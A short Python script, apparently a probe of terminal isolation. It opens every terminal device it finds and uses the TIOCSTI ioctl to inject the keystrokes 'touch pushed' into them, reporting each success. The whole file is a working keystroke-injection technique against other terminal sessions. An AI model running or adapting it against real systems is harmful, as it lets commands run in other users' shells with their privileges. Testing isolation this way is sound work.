# Tries to reach terminals of others: all that are there, and the one that is named.
import fcntl, glob, os, sys, termios

own = os.open("/dev/null", os.O_RDWR)
names = sys.argv[1:] + ["/dev/tty", "/dev/console"] + glob.glob("/dev/tty*") + glob.glob("/dev/pts/*")
for name in dict.fromkeys(names):
    for way in [os.O_RDONLY, os.O_WRONLY, os.O_RDWR]:
        try:
            fd = os.open(name, way | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError:
            continue
        if name != "/dev/pts/ptmx":
            print("DID open", name)
        for char in "touch pushed\n":
            try:
                fcntl.ioctl(fd, termios.TIOCSTI, char)
                print("DID push into", name)
            except OSError:
                pass
for fd in range(0, 256):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, "x")
        print("DID push into descriptor", fd)
    except OSError:
        pass
print("TRIED")
